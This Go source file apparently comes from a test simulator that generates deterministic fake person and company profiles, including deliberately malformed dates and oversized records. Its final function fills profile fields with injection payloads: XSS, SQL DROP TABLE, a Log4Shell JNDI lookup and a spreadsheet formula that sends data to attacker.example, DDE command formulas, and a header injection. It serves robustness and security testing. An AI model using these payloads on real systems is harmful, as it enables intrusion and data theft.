package simulator

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"unicode"
)

// person is who the address belongs to: always the same one for the same seed.
func person(seed int64, email string) *profile {
	r := random(seed, "person", email)
	first, last := names(r, email)
	home := pick(r, places)
	role := pick(r, roles)
	handle := slug(first+" "+last) + fmt.Sprintf("-%04x", r.IntN(1<<16))
	current := employer(seed, r, pick(r, companyNames), home)
	since := 2014 + r.IntN(11)
	now := job{
		Title: role.title, Seniority: role.seniority, IsCurrent: true,
		JobFunctions: []function{{role.function, role.sub}},
		StartAt:      date(since, 1+r.IntN(12)), Company: current,
	}
	if r.IntN(3) > 0 {
		now.Description = role.does
	}
	earlier := employer(seed, r, pick(r, companyNames), pick(r, places))
	earlier.Locations = &locations{} // {} and null: what the provider shows of older employers
	earlier.YearFounded, earlier.Headcount, earlier.LogoURL = 0, 0, ""
	before := job{
		Title: pick(r, roles).title, StartAt: date(since-2-r.IntN(4), 1+r.IntN(12)), EndAt: date(since, 1), Company: earlier,
	}
	school := since - 8 - r.IntN(4)
	p := &profile{
		ID: uuid(seed, "person", email), FullName: first + " " + last, FirstName: first, LastName: last,
		Headline: role.title + " at " + current.Name,
		Location: &location{Country: home.country, CountryCode: home.code, City: home.city, Region: home.region},
		SocialProfiles: &social{network{
			ID: 10_000 + r.Int64N(90_000_000), URL: "https://www.linkedin.example/in/" + handle, Handle: handle, ConnectionCount: 40 + r.IntN(2500),
		}},
		Educations: []education{{
			SchoolName: home.school, Degree: pick(r, degrees), StartAt: date(school, 9), EndAt: date(school+4, 6),
		}},
		Languages:  []language{{home.language, "NATIVE_OR_BILINGUAL"}},
		Skills:     pickSome(r, role.skills),
		Employment: &employment{Current: &now, All: []job{now, before}},
	}
	if home.language != "English" {
		p.Languages = append(p.Languages, language{"English", "FULL_PROFESSIONAL"})
	}
	if r.IntN(3) > 0 {
		p.Description = role.does + " Based in " + home.city + "."
	}
	return p
}

// names come from the local part where it has any.
func names(r *rand.Rand, email string) (first, last string) {
	local, _, _ := strings.Cut(email, "@")
	local, _, _ = strings.Cut(local, "+")
	parts := strings.FieldsFunc(local, func(c rune) bool { return !unicode.IsLetter(c) })
	first, last = pick(r, firstNames), pick(r, lastNames)
	if len(parts) > 0 && len(parts[0]) > 2 {
		first = capital(parts[0])
	}
	if len(parts) > 1 && len(parts[len(parts)-1]) > 1 {
		last = capital(parts[len(parts)-1])
	}
	return first, last
}

func capital(word string) string {
	runes := []rune(strings.ToLower(word))
	runes[0] = unicode.ToUpper(runes[0])
	return string(runes)
}

func slug(text string) string {
	return strings.Join(strings.FieldsFunc(strings.ToLower(text),
		func(c rune) bool { return !unicode.IsLetter(c) && !unicode.IsDigit(c) }), "-")
}

// employer is the company of that name; what it is does not depend on the person.
func employer(seed int64, r *rand.Rand, name string, home place) *company {
	c := random(seed, "company", name)
	field := pick(c, industries)
	handle := slug(name)
	size := pick(c, sizes)
	headcount := size.from + c.IntN(size.to-size.from+1)
	if c.IntN(12) == 0 {
		headcount = 0 // unknown, though the range is known
	}
	domain := handle + ".example"
	out := &company{
		ID: uuid(seed, "company", name), Name: name, Domain: domain,
		Description: field.about, YearFounded: 1975 + c.IntN(48), Headcount: headcount, HeadcountRange: size.label,
		CompanyType: pick(c, []string{"Privately Held", "Public Company", "Partnership"}),
		Specialties: field.specialties, Industry: &industry{field.name},
		SocialProfiles: &social{network{
			ID: 1_000 + c.Int64N(900_000), URL: "https://www.linkedin.example/company/" + handle, Handle: handle, ConnectionCount: 200 +
				c.IntN(90_000),
		}},
		LogoURL: "https://logos.example/company/" + handle,
	}
	if c.IntN(5) > 0 {
		out.Website = "https://www." + domain
	}
	address := location{Line1: fmt.Sprintf("%d %s", 1+r.IntN(240), pick(r, streets)), Line2: home.city + ", " + home.code}
	head := address
	head.City, head.Region, head.Country, head.CountryCode = home.city, home.region, home.country, home.code
	out.Locations = &locations{Headquarters: head}
	if c.IntN(2) == 0 {
		out.Locations.Offices = []location{address}
	}
	return out
}

func date(year, month int) string { return fmt.Sprintf("%04d-%02d-01T00:00:00Z", year, month) }

func pickSome(r *rand.Rand, from []string) []string {
	some := append([]string(nil), from...)
	r.Shuffle(len(some), func(i, k int) { some[i], some[k] = some[k], some[i] })
	return some[:1+r.IntN(len(some))]
}

// badDates puts in dates as they have been seen, and worse.
func badDates(p *profile) {
	p.Employment.Current.StartAt = "2024-1-0T00:00:00.000Z"
	for i := range p.Employment.All {
		p.Employment.All[i].StartAt = "2024-1-0T00:00:00.000Z"
		p.Employment.All[i].EndAt = "sometime in 2019"
	}
	p.Educations[0].StartAt, p.Educations[0].EndAt = "0000-00-00", "20120-13-41T99:00:00Z"
}

// huge makes a record of about half a megabyte.
func huge(p *profile) {
	p.Description = strings.Repeat("A long story about work. ", 10_000)
	for i := range 2_000 {
		p.Skills = append(p.Skills, fmt.Sprintf("Skill number %d", i))
	}
	for i := range 300 {
		earlier := p.Employment.All[1]
		earlier.Title = fmt.Sprintf("Role number %d", i)
		p.Employment.All = append(p.Employment.All, earlier)
	}
}

// hostile fills the texts with what breaks pages, sheets, terminals and databases.
func hostile(p *profile) {
	p.FullName = `<script>alert("name")</script>`
	p.FirstName = `=HYPERLINK("https://attacker.example/?"&A1,"open")`
	p.LastName = "O'Brien\"; DROP TABLE subscriber; --"
	p.Headline = "\u202Eesrever\u202C \x1b[31mred\x1b[0m \x00 nul LONE-SURROGATE"
	p.Description = strings.Repeat("\u0301", 2_000) + `{{.Secret}} ${jndi:ldap://attacker.example/x} %s%n`
	p.Location.City = "@SUM(1+1)*cmd|' /C calc'!A0"
	p.SocialProfiles.ProfessionalNetwork.URL = "javascript:alert(document.domain)"
	p.Employment.Current.Title = "-2+3+cmd|' /C calc'!A0\r\nX-Injected: yes"
	p.Employment.Current.Company.Name = `"><img src=x onerror=alert(1)>`
	p.Employment.Current.Company.Website = "data:text/html,<script>alert(1)</script>"
	p.Employment.Current.Company.Headcount = -1
}
